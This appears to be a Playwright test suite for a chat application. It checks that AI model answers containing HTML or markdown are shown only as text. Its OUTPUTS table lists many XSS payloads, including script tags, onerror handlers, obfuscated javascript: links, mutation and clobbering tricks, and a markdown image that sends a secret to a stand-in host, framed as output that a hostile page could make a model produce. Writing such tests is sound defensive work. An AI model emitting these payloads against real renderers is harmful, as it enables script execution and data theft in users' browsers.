"""Model output stays text: no script runs, nothing is requested from elsewhere, no element appears that could act."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.api.server import Server
from tests.web.visitor import Visitor, visiting

# What a hostile page or document could make a model say. Each would call pwned() or ask elsewhere.invalid.
OUTPUTS = {
    "script": "<script>pwned()</script>",
    "script elsewhere": '<script src="http://elsewhere.invalid/x.js"></script>',
    "image error": "<img src=x onerror=pwned()>",
    "markdown image": "![seen](http://elsewhere.invalid/p.png?secret)",
    "svg load": "<svg onload=pwned()><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x"/></svg>',
    "script link": "[press](javascript:pwned())",
    "hidden script link": "[press](java\tscript:pwned()) [or](JaVaScRiPt&colon;pwned()) [or](&#106;avascript:pwned())",
    "data link": "[press](data:text/html,<script>pwned()</script>)",
    "autolink": "<javascript:pwned()>",
    "reference": "[press][1]\n\n[1]: javascript:pwned()",
    "iframe": '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    "form": '<form action="http://elsewhere.invalid"><button formaction="javascript:pwned()">go</button></form>',
    "style": "<style>@import 'http://elsewhere.invalid/x.css'; body{display:none}</style>",
    "link and base": '<link rel=stylesheet href=http://elsewhere.invalid/x.css><base href="http://elsewhere.invalid/">',
    "meta": '<meta http-equiv="refresh" content="0;url=http://elsewhere.invalid">',
    "broken out of code": '```"><img src=x onerror=pwned()>\n</code></pre><script>pwned()</script>\n```',
    "formula": r"$\href{javascript:pwned()}{x}$ $\unicode{<img src=x onerror=pwned()>}$",
    "text in a formula": r"$$\text{</math><script>pwned()</script>}$$",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
    "table": '| a |\n| --- |\n| <img src=x onerror=pwned()> [x](vbscript:pwned()) |',
    "clobbering": '<form id=log><input name=parentNode></form><a id=session href="javascript:pwned()">x</a>',
    "template": "<template><script>pwned()</script></template>{{constructor.constructor('pwned()')()}}",
}  # fmt: skip
ACTING = "script, iframe, object, embed, form, img, style, link, meta, base, template, svg use:not([href^='#i-'])"


@pytest.fixture(scope="module")
def victim(browser: Browser, echo: Server) -> Iterator[Visitor]:
    """A user who reads all of it, one answer below the other."""
    with visiting(browser, f"http://127.0.0.1:{echo.port}") as visitor:
        visitor.page.add_init_script("globalThis.pwned = () => { globalThis.wasPwned = true; }")
        visitor.page.on("dialog", lambda dialog: visitor.complaints.append(dialog.message))
        visitor.open().login().inside()
        yield visitor


@pytest.mark.promise("P27", injected="answers that would run a script or ask another place")
@pytest.mark.parametrize("name", OUTPUTS)
def test_an_output_that_would_act_stays_text(victim: Visitor, name: str, counted: Callable[..., None]) -> None:
    answer = victim.ask(f"{OUTPUTS[name]}\n\nthe end")
    expect(answer.locator(".prose").last).to_contain_text("the end")
    victim.page.wait_for_load_state("networkidle")
    ran, elements = victim.evaluate("globalThis.wasPwned === true"), answer.locator(ACTING).count()
    counted(answers=1, scripts_run=int(ran), acting_elements=elements, requests_elsewhere=len(victim.elsewhere))
    assert (ran, elements) == (False, 0)
    handlers = "nodes => nodes.flatMap(n => [...n.attributes]).filter(a => /^on|^style$/.test(a.name)).length"
    assert answer.locator(".prose *").evaluate_all(handlers) == 0
    links = answer.locator("a[href]").evaluate_all("links => links.map(link => link.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}
    assert (victim.elsewhere, victim.complaints) == ([], [])


def test_html_of_a_model_is_shown_as_it_was_written(victim: Visitor) -> None:
    answer = victim.ask("Write <b>bold</b> & <script>alert(1)</script> like this.")
    expect(answer.locator(".prose").last).to_have_text("Write <b>bold</b> & <script>alert(1)</script> like this.")


def test_a_title_is_text_too(victim: Visitor) -> None:
    victim.page.locator("#new").click()
    victim.ask("<img src=x onerror=pwned()>")
    expect(victim.page.locator("#title")).to_have_text("<img src=x onerror=pwned()>")
    assert victim.evaluate("globalThis.wasPwned") is None


def test_a_link_opens_a_new_tab_without_a_referrer(victim: Visitor) -> None:
    link = victim.ask("See [this](https://example.org/a).").get_by_role("link", name="this")
    assert link.get_attribute("target") == "_blank"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"


def test_the_policy_allows_no_inline_script_and_no_html_from_strings(victim: Visitor) -> None:
    sink = "() => { try { document.body.innerHTML = '<i></i>'; return 'set' } catch (e) { return e.name } }"
    assert victim.evaluate(sink) == "TypeError"
    victim.complaints.clear()  # the browser says that it refused
